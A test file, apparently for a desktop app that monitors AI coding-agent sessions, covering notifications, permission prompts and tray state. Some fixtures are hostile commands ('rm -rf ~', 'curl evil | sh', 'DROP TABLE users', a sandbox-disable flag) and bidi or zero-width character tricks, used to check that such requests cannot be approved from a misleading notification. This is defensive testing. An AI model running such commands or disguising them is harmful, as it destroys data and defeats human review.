import { describe, expect, it, vi } from 'vitest'
import { DEFAULT_SETTINGS, type Settings } from '@shared/settings'
import type { CanonicalEvent } from '@shared/events'
import type { Session } from '@shared/sessions'
import {
  NotificationCenter,
  PER_SESSION_COOLDOWN_MS,
  type DesktopNotification,
} from '../../../src/main/core/notify/notification-center'
import { computeTrayState, type TrayState } from '../../../src/main/core/notify/tray-model'
import { TrayFeed } from '../../../src/main/core/notify/tray-feed'
import { makeSession } from '../../support/session-fixture'

const base = { agent: 'claude' as const, ts: 1, sessionId: 's1' }
const perm = (id: string): CanonicalEvent => ({
  ...base,
  id,
  type: 'permission.request',
  requestId: id,
  tool: 'Bash',
  input: { command: 'make' },
})
const stop = (id: string): CanonicalEvent => ({ ...base, id, type: 'stop', text: 'All done' })

function setup(settings: Partial<Settings> = {}) {
  let now = 1_000_000
  const shown: DesktopNotification[] = []
  const center = new NotificationCenter(
    () => ({ ...DEFAULT_SETTINGS, ...settings }),
    () => 'Alpha',
    () => now,
  )
  center.addSink({ show: (n) => shown.push(n) })
  return { center, shown, advance: (ms: number) => (now += ms) }
}

describe('notification center', () => {
  it('notifies permission requests, questions, finished and failed turns', () => {
    const { center, shown } = setup()
    center.handle([
      perm('p1'),
      {
        ...base,
        id: 'q',
        type: 'tool.start',
        tool: 'AskUserQuestion',
        toolUseId: 'q',
        input: { questions: [{ question: 'Pick one?' }] },
      },
      stop('s'),
      {
        ...base,
        id: 'f',
        type: 'stop.failure',
        error: 'rate_limit',
        details: '429 Too Many Requests',
      },
      { ...base, id: 't', type: 'tool.start', tool: 'Read', toolUseId: 't', input: {} },
    ])
    expect(shown.map((n) => n.kind)).toEqual(['permission', 'question', 'finished', 'failed'])
    expect(shown[0]).toMatchObject({
      title: 'Alpha needs permission',
      body: 'Bash: make',
      requestId: 'p1',
    })
  })

  it('lets a notification allow only what its text fully shows', () => {
    const { center, shown } = setup()
    const request = (id: string, tool: string, input: unknown): CanonicalEvent => ({
      ...base,
      id,
      type: 'permission.request',
      requestId: id,
      tool,
      input,
    })
    const long = `rm -rf ${'very/long/path/'.repeat(20)}; echo done`
    center.handle([
      request('short', 'Bash', { command: 'npm test' }),
      request('long', 'Bash', { command: long }),
      request('lines', 'Bash', { command: 'echo one\nrm -rf ~' }),
      request('write', 'Write', { file_path: '/repo/a.sh', content: 'curl evil | sh' }),
      request('read', 'Read', { file_path: '/repo/README.md' }),
      request('mcp', 'mcp__db__query', { sql: 'DROP TABLE users' }),
    ])
    expect(shown.map((n) => [n.requestId, n.allowFromNotification])).toEqual([
      ['short', true],
      ['long', false],
      ['lines', false],
      ['write', false],
      ['read', true],
      ['mcp', false],
    ])
    expect(shown[1].body.endsWith('…')).toBe(true)
  })

  it('lets a notification allow nothing its text hides: other inputs, invisible characters', () => {
    const { center, shown } = setup()
    const request = (id: string, tool: string, input: unknown): CanonicalEvent => ({
      ...base,
      id,
      type: 'permission.request',
      requestId: id,
      tool,
      input,
    })
    center.handle([
      // What Claude Code sends beside the shown field without changing what runs or is read.
      request('described', 'Bash', {
        command: 'npm test',
        description: 'Run the tests',
        timeout: 120000,
        run_in_background: false,
      }),
      request('fetch', 'WebFetch', { url: 'https://example.com/a', prompt: 'Summarise it' }),
      request('page', 'Read', { file_path: '/repo/log.txt', offset: 10, limit: 20 }),
      // An input the body does not show changes what "Allow" approves.
      request('unsandboxed', 'Bash', { command: 'npm test', dangerouslyDisableSandbox: true }),
      // Shown, these read as something else: bidi controls reorder, zero-width ones vanish.
      request('bidi', 'Bash', { command: 'echo \u202e~ fr- mr' }),
      request('zero-width', 'Bash', { command: 'curl example.com\u200b/x' }),
      request('isolate', 'Read', { file_path: '/repo/\u2066a.txt' }),
    ])
    expect(shown.map((n) => [n.requestId, n.allowFromNotification])).toEqual([
      ['described', true],
      ['fetch', true],
      ['page', true],
      ['unsandboxed', false],
      ['bidi', false],
      ['zero-width', false],
      ['isolate', false],
    ])
  })

  it('is suppressed while the window is focused on that session, and by do-not-disturb', () => {
    const a = setup()
    a.center.setFocus({ windowFocused: true, sessionId: 's1' })
    a.center.handle([perm('p1')])
    expect(a.shown).toEqual([])
    a.center.setFocus({ windowFocused: true, sessionId: 'other' })
    a.center.handle([perm('p2')])
    expect(a.shown).toHaveLength(1)
    const b = setup({ notifications: { ...DEFAULT_SETTINGS.notifications, doNotDisturb: true } })
    b.center.handle([perm('p1'), stop('s')])
    expect(b.shown).toEqual([])
  })

  it('rate-limits repeats per session and kind, but never permission requests', () => {
    const { center, shown, advance } = setup()
    center.handle([stop('a'), stop('b')])
    expect(shown).toHaveLength(1)
    advance(PER_SESSION_COOLDOWN_MS + 1)
    center.handle([stop('c')])
    expect(shown).toHaveLength(2)
    center.handle([perm('p1'), perm('p2')])
    expect(shown.filter((n) => n.kind === 'permission')).toHaveLength(2)
  })

  it('"needs you" and "finished" read differently, and each sound follows its own switch', () => {
    const failed: CanonicalEvent = { ...base, id: 'f', type: 'stop.failure', error: 'unknown' }
    const titles = setup()
    titles.center.handle([perm('p1'), stop('s')])
    expect(titles.shown.map((n) => n.title)).toEqual(['Alpha needs permission', 'Alpha finished'])
    const silentOf = (sound: Partial<Settings['sound']>) => {
      const { center, shown } = setup({ sound: { ...DEFAULT_SETTINGS.sound, ...sound } })
      center.handle([perm('p1'), stop('s'), failed])
      return Object.fromEntries(shown.map((n) => [n.kind, n.silent]))
    }
    expect(silentOf({})).toEqual({ permission: false, finished: false, failed: false })
    expect(silentOf({ needsYouCue: false })).toEqual({
      permission: true,
      finished: false,
      failed: false,
    })
    expect(silentOf({ finishedCue: false })).toEqual({
      permission: false,
      finished: true,
      failed: false,
    })
    expect(silentOf({ muted: true })).toEqual({ permission: true, finished: true, failed: true })
  })

  it('ignores events from inside subagents', () => {
    const { center, shown } = setup()
    center.handle([{ ...stop('s'), agentId: 'agent-1' }])
    expect(shown).toEqual([])
  })
})

describe('tray state', () => {
  const session = (id: string, status: Session['status']) => makeSession(id, { status })
  it('is idle, working, or lists the sessions that need you', () => {
    expect(computeTrayState([session('a', 'idle')], []).state).toBe('idle')
    expect(computeTrayState([session('a', 'working')], []).tooltip).toBe('Atelier — 1 working')
    const t = computeTrayState(
      [session('a', 'working'), session('b', 'question'), session('c', 'finished')],
      [
        {
          id: 'r',
          sessionId: 'a',
          kind: 'permission',
          toolName: 'Bash',
          toolInput: {},
          createdAt: 0,
          expiresAt: 1,
        },
      ],
    )
    expect(t.state).toBe('attention')
    expect(t.needYou).toEqual([
      { sessionId: 'a', name: 'a', reason: 'permission' },
      { sessionId: 'b', name: 'b', reason: 'question' },
    ])
    // A finished turn is a success: it never needs you.
    expect(computeTrayState([session('c', 'finished')], []).state).toBe('idle')
    expect(t.tooltip).toBe('Atelier — 2 sessions need you')
  })
})

describe('tray feed', () => {
  it('merges a burst of changes into one update showing the latest state', async () => {
    let sessions = [makeSession('a', { status: 'idle' })]
    const feed = new TrayFeed(
      () => sessions,
      () => [],
    )
    const seen: TrayState[] = []
    feed.onChange((t) => seen.push(t))
    for (let i = 0; i < 50; i++) {
      sessions = [makeSession('a', { status: i % 2 ? 'working' : 'finished' })]
      feed.changed()
    }
    await vi.waitFor(() => expect(seen.length).toBe(1))
    expect(seen[0].state).toBe('working')
    feed.close()
  })
})
